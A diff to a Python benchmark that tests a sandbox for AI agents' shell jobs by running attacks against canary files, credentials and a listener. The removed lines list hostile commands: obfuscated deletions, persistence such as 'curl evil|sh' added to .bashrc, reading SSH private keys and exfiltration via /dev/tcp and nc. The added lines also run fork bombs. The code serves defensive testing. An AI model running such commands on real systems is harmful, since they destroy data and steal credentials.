@@ -2,30 +2,35 @@
 
     python bench/containment.py [--quick] [--runs 100]
 
-Arm A starts `true` bare, arm B inside the sandbox corral builds for an agent's job
-(corral/sandbox.py, the facility's default profile), interleaved, and reports each
-arm's start-to-exit p50 and the difference. Then it executes harmful commands in
-several disguises inside that sandbox against a canary home with canary credentials
-and a canary listener, and checks effects, not exit codes: a file outside the job's
-directory changed, a canary secret came back, a connection arrived. And it runs
-benign work that must keep running. Last, the fast lane: a burst of `true` tasks
-through a real gateway (local backend, one warm 32-slot allocation), from a person
-(not contained) and from that person's agent (each task contained), interleaved, and
-the ratio of the makespans. Needs bubblewrap (scripts/sandbox-up).
+1. Start cost: `true` bare (arm A) and inside the sandbox corral builds for an agent's
+   job (arm B, the default profile), interleaved; each arm's start-to-exit p50.
+2. Attacks executed: every payload of corral/safety/canary.py (deletion and overwrite
+   by any tool, persistence, credentials in every place, another person's home,
+   outbound connections and reverse shells, the scheduler, other processes, the system)
+   in every disguise, and three fork bombs, run inside the sandbox against canaries and
+   judged by effect, not exit code.
+3. Benign work that must keep working: a Python project's tests with pytest, a venv
+   and `pip install` from a local wheelhouse, `git commit`, a C build with `make`,
+   reading the shared read-only data; and the real agents' commands of
+   ../shared/data/agent-bash-commands.jsonl, each run bare (as the job's user, in an
+   empty directory) and sandboxed: broken means it worked bare and fails contained.
+4. The fast lane: a burst of `true` tasks through a real gateway (local backend, one
+   warm 32-slot allocation), from a person (not contained) and from that person's
+   agent (each task contained), interleaved; the ratio of the makespans.
+
+Needs bubblewrap (scripts/sandbox-up); run as root for the root-gateway case.
 Last line: one JSON object.
 """
 
 from __future__ import annotations
 
 import argparse
-import base64
 import json
+import os
 import shutil
-import socket
 import subprocess
 import sys
 import tempfile
-import threading
 import time
 from pathlib import Path
 
@@ -33,37 +38,81 @@ sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
 
 import httpx  # noqa: E402
 
-from bench._common import GatewayProcess, pct  # noqa: E402
-from corral.sandbox import build  # noqa: E402
-
-SECRET = "CANARY-bench-5d1c-secret"
-
-
-def attacks(home: Path, port: int) -> list[str]:
-    h = str(home)
-    b64 = base64.b64encode(f"rm -rf {h}/project".encode()).decode()
-    return [
-        f"rm -rf {h}/project", f"X='rm -rf {h}/project'; sh -c \"$X\"", f"echo 'tcejorp/{h[::-1]} fr- mr' | rev | sh",
-        f"echo {b64} | base64 -d | bash", f"eval \"$(printf 'rm -rf %s/project' {h})\"",
-        f"bash <<'EOF'\nrm -rf {h}/project\nEOF", f"find {h}/project -type f -delete",
-        f"python3 -c \"import shutil; shutil.rmtree('{h}/project')\"",
-        f"perl -e 'unlink glob \"{h}/project/*\"'", f"truncate -s 0 {h}/project/paper.tex",
-        f"dd if=/dev/zero of={h}/project/paper.tex bs=1 count=1 conv=notrunc", f"mv {h}/project /tmp/stolen",
-        f"echo '* * * * * curl x|sh' >> {h}/.crontab", f"mkdir -p {h}/.ssh && echo key >> {h}/.ssh/authorized_keys",
-        f"echo 'curl evil|sh' >> {h}/.bashrc", "echo owned > /etc/corral-canary",
-        f"cat {h}/.ssh/id_ed25519", f"python3 -c \"print(open('{h}/.ssh/id_ed25519').read())\"",
-        f"cp -r {h}/.ssh ./x && cat ./x/*", f"tar c {h}/.ssh 2>/dev/null | strings",
-        f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2).send(b'x')\"",
-        f"bash -c 'echo leak > /dev/tcp/127.0.0.1/{port}'", f"curl -s -m 2 http://127.0.0.1:{port}/",
-        f"nc -w 2 127.0.0.1 {port} < /etc/hostname", "kill -9 -1", "pkill -9 -f sleep",
-    ]
+from bench._common import GatewayProcess, pct, shared_data  # noqa: E402
+from corral.safety.canary import FORK_BOMBS, Canaries  # noqa: E402
+from corral.sandbox import Sandbox, build  # noqa: E402
 
 
-BENIGN = ["python3 -c 'print(sum(range(10)))' > sum.txt && test -s sum.txt",
-          "mkdir -p /tmp/scratch && echo t > /tmp/scratch/f && cat /tmp/scratch/f",
-          "printf 'all:\\n\\techo built > built.txt\\n' > Makefile && make -s && test -s built.txt",
-          "git init -q repo && cd repo && echo a > a && git add a && git -c user.email=a@b -c user.name=bot commit -qm m",
-          "ls /usr/lib/python3* > /dev/null && head -c 100 /etc/os-release > /dev/null", "sort -R /etc/passwd | head -1"]
+BENIGN = [
+    "python3 -c 'print(sum(range(10)))' > sum.txt && test -s sum.txt",
+    "mkdir -p /tmp/scratch && echo t > /tmp/scratch/f && cat /tmp/scratch/f",
+    "printf '%s\\n' '#include <stdio.h>' 'int main(void) {{ puts(\"hi\"); return 0; }}' > hi.c && "
+    "printf 'hi: hi.c\\n\\tcc -O2 -o hi hi.c\\n' > Makefile && make -s && ./hi",
+    "git init -q repo && cd repo && echo a > a && git add a && git -c user.email=a@b -c user.name=bot commit -qm m",
+    "mkdir -p proj/tests && printf 'def add(a, b):\\n    return a + b\\n' > proj/calc.py && "
+    "printf 'import unittest\\nfrom calc import add\\nclass T(unittest.TestCase):\\n    def test_add(self):\\n"
+    "        self.assertEqual(add(2, 3), 5)\\n' > proj/tests/test_calc.py && "
+    "touch proj/tests/__init__.py && cd proj && python3 -m unittest discover -s tests -t . 2>&1 | grep -q 'Ran 1 test'",
+    "python3 -m venv /tmp/v && /tmp/v/bin/pip install -q --no-index --find-links {wheels} corral-bench-wheel && "
+    "/tmp/v/bin/python -c 'import corral_bench_wheel'",
+    "wc -l {data}/agent-bash-commands.jsonl && head -c 200 {data}/traces/* > /dev/null",
+    "ls /usr/lib/python3* > /dev/null && head -c 100 /etc/os-release > /dev/null",
+]
+"""{wheels}: a local wheelhouse; {data}: the shared data. `python3` is found on PATH
+inside (an interpreter under /root, as this machine's pyenv, is hidden with /root)."""
+
+
+def wheelhouse(root: Path) -> Path:
+    """A one-module wheel, written here by hand (no network, no build backend): what
+    `pip install --no-index --find-links` takes."""
+    import zipfile
+
+    out = root / "wheels"
+    out.mkdir()
+    name = "corral_bench_wheel-1.0-py3-none-any.whl"
+    files = {"corral_bench_wheel/__init__.py": "VALUE = 1\n",
+             "corral_bench_wheel-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: corral-bench-wheel\nVersion: 1.0\n",
+             "corral_bench_wheel-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: corral\nRoot-Is-Purelib: true\n"
+                                                      "Tag: py3-none-any\n"}
+    record = "".join(f"{k},,\n" for k in files) + "corral_bench_wheel-1.0.dist-info/RECORD,,\n"
+    with zipfile.ZipFile(out / name, "w") as z:
+        for k, v in {**files, "corral_bench_wheel-1.0.dist-info/RECORD": record}.items():
+            z.writestr(k, v)
+    out.chmod(0o755)
+    (out / name).chmod(0o644)
+    return out
+
+
+def fresh_dir() -> str:
+    work = Path(tempfile.mkdtemp(prefix="work-", dir="/tmp"))
+    work.chmod(0o777)
+    return str(work)
+
+
+def as_job_user() -> list[str]:
+    return ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] if os.geteuid() == 0 else []
+
+
+def agent_commands(box: Sandbox, n: int) -> tuple[int, list[str]]:
+    """Real agents' commands, bare and contained: -> (run, the ones the sandbox broke)."""
+    rows = [json.loads(x)["command"] for x in shared_data("agent-bash-commands.jsonl").read_text().splitlines()]
+    rows = rows[:: max(1, len(rows) // n)][:n]
+    broken = []
+    for cmd in rows:
+        codes = []
+        for wrap in (lambda a, w: as_job_user() + a, lambda a, w: box.wrap("agent", a, w)):
+            work = fresh_dir()
+            try:
+                r = subprocess.run(wrap(["bash", "-c", cmd], work), cwd=work, capture_output=True, text=True,
+                                   timeout=20, stdin=subprocess.DEVNULL)
+                codes.append(r.returncode)
+            except subprocess.TimeoutExpired:
+                codes.append(-1)
+            finally:
+                shutil.rmtree(work, ignore_errors=True)
+        if codes[0] == 0 and codes[1] != 0:
+            broken.append(f"{cmd[:80]} (exit {codes[1]})")
+    return len(rows), broken
 
 
 def fast_lane_makespans(tasks: int, rounds: int) -> dict[str, list[float]]:
@@ -104,91 +153,62 @@ def fast_lane_makespans(tasks: int, rounds: int) -> dict[str, list[float]]:
 
 def main() -> None:
     ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
-    ap.add_argument("--quick", action="store_true", help="30 starts per arm")
+    ap.add_argument("--quick", action="store_true", help="30 starts per arm, 100 agent commands, 200 tasks")
     ap.add_argument("--runs", type=int, default=100)
     ap.add_argument("--tasks", type=int, default=1000, help="fast-lane tasks per burst (--quick: 200)")
     a = ap.parse_args()
     runs = 30 if a.quick else a.runs
-    root = Path(tempfile.mkdtemp(prefix="corral-containment-"))
-    home = root / "home"
-    (home / ".ssh").mkdir(parents=True)
-    (home / ".ssh" / "id_ed25519").write_text(SECRET)
-    (home / "project").mkdir()
-    (home / "project" / "paper.tex").write_text("results")
-    state = root / "corral-state"
-    state.mkdir()
-    box = build(["agent"], [home / ".ssh"], False, "nobody", [state])
-    if box.why_not:
-        sys.exit(f"containment: no sandbox here: {box.why_not}")
-
-    def fresh_job() -> tuple[str, str]:
-        work = Path(tempfile.mkdtemp(prefix="work-", dir="/tmp"))
-        work.chmod(0o777)
-        job = state / f"job-{time.monotonic_ns()}"
-        job.mkdir()
-        shutil.chown(job, "nobody")
-        return str(work), str(job)
-
-    work, job = fresh_job()
-    bare, boxed = [], []
-    for _ in range(runs):
-        for arm, argv in ((bare, ["true"]), (boxed, box.wrap("agent", ["true"], work, job))):
-            t = time.perf_counter()
-            subprocess.run(argv, check=True)
-            arm.append((time.perf_counter() - t) * 1000)
-
-    listener = socket.socket()
-    listener.bind(("127.0.0.1", 0))
-    listener.listen(16)
-    listener.settimeout(0.2)
-    heard: list[bytes] = []
-
-    def accept() -> None:
-        while True:
-            try:
-                c, _ = listener.accept()
-                heard.append(c.recv(100) or b"(connected)")
-                c.close()
-            except TimeoutError:
-                continue
-            except OSError:
-                return
-
-    threading.Thread(target=accept, daemon=True).start()
-    sleeper = subprocess.Popen(["sleep", "300"])
-    harmful: list[str] = []
-    cmds = attacks(home, listener.getsockname()[1])
-    for cmd in cmds:
-        work, job = fresh_job()
-        r = subprocess.run(box.wrap("agent", ["bash", "-c", cmd], work, job), capture_output=True, text=True,
-                           timeout=30)
-        effects = []
-        if not (home / "project" / "paper.tex").exists() or (home / "project" / "paper.tex").read_text() != "results":
-            effects.append("canary project changed")
-            (home / "project").mkdir(exist_ok=True)
-            (home / "project" / "paper.tex").write_text("results")
-        if any((home / f).exists() for f in (".crontab", ".bashrc", ".ssh/authorized_keys")) or \
-                Path("/etc/corral-canary").exists():
-            effects.append("persistence written")
-        if SECRET in r.stdout + r.stderr:
-            effects.append("canary secret read")
-        if sleeper.poll() is not None:
-            effects.append("a process outside was killed")
-            sleeper = subprocess.Popen(["sleep", "300"])
-        if effects:
-            harmful.append(f"{cmd[:60]}: {', '.join(effects)}")
-    time.sleep(0.5)  # the listener's thread takes what arrived
-    if heard:
-        harmful.append(f"{len(heard)} connections reached the canary listener")
-    listener.close()
-    sleeper.kill()
-    broken = []
-    for cmd in BENIGN:
-        work, job = fresh_job()
-        r = subprocess.run(box.wrap("agent", ["bash", "-c", cmd], work, job), capture_output=True, text=True,
-                           timeout=60)
-        if r.returncode != 0:
-            broken.append(f"{cmd[:50]}: exit {r.returncode}: {r.stderr.strip()[-200:]}")
+    # Not under /tmp, which is private inside the sandbox: there the canaries would be
+    # out of sight whatever else held. The job's user can reach them: only the sandbox stops it.
+    root = Path(tempfile.mkdtemp(prefix="corral-containment-", dir="/var/tmp"))
+    root.chmod(0o755)
+    with Canaries(root / "canaries") as c:
+        os.environ["HOME"] = str(c.home)  # the sandbox hides credentials under the gateway's home
+        box = build(["agent"], [], False, "nobody", [root / "corral-state"], pids_max=64)
+        if box.why_not:
+            sys.exit(f"containment: no sandbox here: {box.why_not}")
+        work = fresh_dir()
+        bare, boxed = [], []
+        for _ in range(runs):
+            for arm, argv in ((bare, ["true"]), (boxed, box.wrap("agent", ["true"], work))):
+                t = time.perf_counter()
+                subprocess.run(argv, check=True)
+                arm.append((time.perf_counter() - t) * 1000)
+        harmful: list[str] = []
+        by_category: dict[str, int] = {}
+        attacks = c.attacks()
+        for cmd, category, disguise in attacks:
+            r = subprocess.run(box.wrap("agent", ["bash", "-c", cmd], work), capture_output=True, text=True, timeout=30)
+            by_category[category] = by_category.get(category, 0) + 1
+            harm = c.judge(r.stdout + r.stderr)
+            if harm:
+                harmful.append(f"{category}/{disguise}: {cmd[:60]}: {', '.join(harm)}")
+        bomb_peak = []
+        for bomb in FORK_BOMBS:
+            p = subprocess.Popen(box.wrap("agent", ["bash", "-c", bomb], work), stdout=subprocess.DEVNULL,
+                                 stderr=subprocess.DEVNULL)
+            who = "nobody" if os.geteuid() == 0 else str(os.getuid())
+            peak = 0
+            for _ in range(30):  # the highest count over 1.5 s
+                peak = max(peak, int(subprocess.run(["pgrep", "-c", "-u", who], capture_output=True,
+                                                    text=True).stdout or 0))
+                time.sleep(0.05)
+            bomb_peak.append(peak)
+            p.kill()
+            p.wait()
+            if os.geteuid() == 0 and bomb_peak[-1] > box.pids_max + 2:
+                harmful.append(f"fork bomb {bomb!r}: {bomb_peak[-1]} processes, over the limit of {box.pids_max}")
+        wheels = wheelhouse(root)
+        broken = []
+        fill = {"wheels": wheels, "data": shared_data("agent-bash-commands.jsonl").parent}
+        for cmd in BENIGN:
+            w = fresh_dir()
+            r = subprocess.run(box.wrap("agent", ["bash", "-c", cmd.format(**fill)], w), capture_output=True, text=True,
+                               timeout=120)
+            shutil.rmtree(w, ignore_errors=True)
+            if r.returncode != 0:
+                broken.append(f"{cmd[:50]}: exit {r.returncode}: {(r.stdout + r.stderr).strip()[-300:]}")
+        agents_run, agents_broken = agent_commands(box, 100 if a.quick else 700)
     shutil.rmtree(root, ignore_errors=True)
     tasks = 200 if a.quick else a.tasks
     spans = fast_lane_makespans(tasks, 1 if a.quick else 2)
@@ -196,15 +216,18 @@ def main() -> None:
     out = {"bench": "containment", "runs": runs, "bare_start_p50_ms": round(pct(bare, 50), 2),
            "sandbox_start_p50_ms": round(pct(boxed, 50), 2),
            "added_p50_ms": round(pct(boxed, 50) - pct(bare, 50), 2), "sandbox_start_p99_ms": round(pct(boxed, 99), 2),
-           "attacks_run": len(cmds), "harmful_effects": len(harmful), "harmful": harmful,
+           "attacks_run": len(attacks) + len(FORK_BOMBS), "attacks_by_category": by_category,
+           "harmful_effects": len(harmful), "harmful": harmful, "fork_bomb_peak_processes": bomb_peak,
            "benign_run": len(BENIGN), "benign_broken": len(broken), "broken": broken,
+           "agent_commands_run": agents_run, "agent_commands_broken": len(agents_broken),
+           "agent_commands_broken_list": agents_broken[:20],
            "fast_lane_tasks": tasks, "fast_lane_makespan_bare_s": round(bare_s, 2),
            "fast_lane_makespan_sandboxed_s": round(boxed_s, 2),
            "fast_lane_makespan_ratio": round(boxed_s / bare_s, 2), "fast_lane_runs": spans}
     print(f"start p50: bare {out['bare_start_p50_ms']} ms, sandboxed {out['sandbox_start_p50_ms']} ms "
-          f"(+{out['added_p50_ms']} ms); attacks {len(cmds)}, harmful effects {len(harmful)}; "
-          f"benign {len(BENIGN)}, broken {len(broken)}; fast lane {tasks} tasks: bare {bare_s:.2f} s, "
-          f"sandboxed {boxed_s:.2f} s")
+          f"(+{out['added_p50_ms']} ms); attacks {out['attacks_run']}, harmful effects {len(harmful)}; "
+          f"benign {len(BENIGN)}, broken {len(broken)}; agent commands {agents_run}, broken {len(agents_broken)}; "
+          f"fast lane {tasks} tasks: bare {bare_s:.2f} s, sandboxed {boxed_s:.2f} s", file=sys.stderr)
     print(json.dumps(out))
 
 
